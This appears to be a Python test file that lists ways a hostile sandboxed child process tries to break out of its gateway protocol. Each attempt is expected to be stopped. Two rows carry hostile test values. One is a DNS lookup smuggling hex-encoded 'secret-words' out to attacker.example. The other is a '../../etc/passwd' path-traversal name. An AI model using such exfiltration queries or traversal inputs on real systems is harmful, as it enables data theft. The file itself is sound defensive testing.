"""What a child may say to the gateway, and how: too much, too little, in pieces, never; and lies of every kind."""

import fcntl
import os
import time
from collections.abc import Callable, Iterator
from hashlib import sha256
from typing import NoReturn

import msgspec

from sanitizers.confinement.protocol import HEADER, UNFIT, Kind, Question, frame
from sanitizers.model import AskDns, Cleaned, Threat
from tests.contract.confinement.escapes.table import MEBIBYTE, QUICK, Escape, Target, stopped
from tests.contract.confinement.hostile_child import LIES, RAW, answer, finding, result_frames

PIPE = 3
FOUR_GIGABYTES = 4 << 30


class Hands(msgspec.Struct):
    """What the workshop lends to the attempt at hand."""

    ask_dns: AskDns | None = None
    mark: Callable[[str, bytes], None] | None = None


HANDS = Hands()


class Lie(msgspec.Struct, frozen=True):
    """To be told by the workshop, of the original at hand."""

    tell: Callable[[bytes], Cleaned]


class Octets(msgspec.Struct, frozen=True):
    """To be written to the pipe instead of an answer, of the original at hand."""

    of: Callable[[bytes], bytes]


def say(octets: bytes) -> None:
    """All of it, through the bare descriptor."""
    while octets:
        octets = octets[os.write(PIPE, octets) :]


def then_sleep(octets: bytes) -> NoReturn:
    say(octets)
    while True:
        time.sleep(1_000)


def pour(first: bytes, more: bytes) -> str:
    say(first)
    poured = 0
    while poured < FOUR_GIGABYTES:
        say(more)
        poured += len(more)
    return "four gigabytes went in"


def dribble(octets: Iterator[int]) -> NoReturn:
    for octet in octets:
        say(bytes((octet,)))
        time.sleep(0.2)
    raise AssertionError


def put_nothing_in_its_place(_: Target) -> NoReturn:
    os.close(PIPE)
    fcntl.fcntl(0, fcntl.F_DUPFD, PIPE)
    while True:
        time.sleep(1_000)


def close_and_stay(_: Target) -> NoReturn:
    os.close(PIPE)
    while True:
        time.sleep(1_000)


def ask(name: str) -> object:
    assert HANDS.ask_dns is not None
    return HANDS.ask_dns(name, "TXT")


def ask_for_ever(_: Target) -> NoReturn:
    while True:
        ask("_dmarc.example.jp")


def note_and_die(path: str, digest: bytes) -> NoReturn:
    assert HANDS.mark is not None
    HANDS.mark(path, digest)
    os._exit(3)


def huge_counts(original: bytes) -> bytes:
    return result_frames(answer(original, original, findings=(finding(),) * 180_000))


CHUNK = HEADER.pack(MEBIBYTE, Kind.CHUNK) + bytes(MEBIBYTE)
LARGEST_RESULT = HEADER.pack(16 * MEBIBYTE, Kind.RESULT)

ROWS: tuple[Escape, ...] = (
    stopped("pour_zeros", "4 GB of nothing", lambda _: pour(b"", bytes(MEBIBYTE)), Threat.MALFORMED),
    stopped("pour_data", "4 GB of data without an answer", lambda _: pour(b"", CHUNK), Threat.MALFORMED),
    stopped(
        "pour_a_result",
        "an answer of the largest size, and 4 GB more",
        lambda _: pour(LARGEST_RESULT, bytes(MEBIBYTE)),
        Threat.MALFORMED,
    ),
    stopped(
        "pour_questions",
        "4 GB of questions",
        lambda _: pour(b"", frame(Kind.QUESTION, Question("_dmarc.example.jp", "TXT")) * 1_000),
        Threat.MALFORMED,
    ),
    stopped(
        "half_a_frame",
        "then silence",
        lambda _: then_sleep(LARGEST_RESULT + b"x"),
        Threat.LIMIT_EXCEEDED,
        QUICK,
        warm=False,
    ),
    stopped("half_a_header", "then silence", lambda _: then_sleep(b"\0\0"), Threat.LIMIT_EXCEEDED, QUICK),
    stopped(
        "dribble",
        "a byte now and then",
        lambda _: dribble(iter(LARGEST_RESULT + bytes(1_000))),
        Threat.LIMIT_EXCEEDED,
        QUICK,
        warm=False,
    ),
    stopped("close_the_pipe", "and stay", close_and_stay, Threat.MALFORMED),
    stopped("close_and_replace_the_pipe", "with nothing", put_nothing_in_its_place, Threat.MALFORMED),
    stopped("ask_for_ever", "questions to the DNS", ask_for_ever, Threat.MALFORMED),
    stopped(
        "carry_words_out",
        "a question to the DNS that is a message",
        lambda _: ask("7365637265742d776f726473.attacker.example"),
        Threat.MALFORMED,
    ),
    stopped(
        "unfit_for_ever", "always another child, please", lambda _: then_sleep(UNFIT), Threat.MALFORMED, warm=False
    ),
    stopped(
        "note_a_trick_and_die",
        "a part whose path is a path",
        lambda _: note_and_die("../../etc/passwd", bytes(32)),
        Threat.MALFORMED,
    ),
    stopped(
        "say_huge_counts",
        "as many findings as the largest answer holds",
        lambda _: Octets(huge_counts),
        Threat.MALFORMED,
    ),
    *(
        stopped(
            f"say_{name}",
            f"instead of an answer: {name.replace('_', ' ')}",
            lambda _, octets=octets: Octets(octets),
            Threat.MALFORMED,
            warm=False,
        )
        for name, octets in RAW.items()
    ),
    *(
        stopped(
            f"lie_{name}",
            f"an answer that is not true: {name.replace('_', ' ')}",
            lambda _, lie=lie: Lie(lie),
            Threat.MALFORMED,
            warm=False,
        )
        for name, lie in LIES.items()
    ),
    stopped(
        "poison_a_part_of_another_item",
        "a part that it never had, named as the one it dies of",
        lambda _: note_and_die("1.2", sha256(b"a form that everybody sends").digest()),
        Threat.MALFORMED,
    ),
    stopped(
        "note_new_parts_and_die",
        "another part each time, for ever",
        lambda _: note_and_die(f"1.{time.monotonic_ns() % 1_000_000 + 1}", os.urandom(32)),
        Threat.MALFORMED,
    ),
)
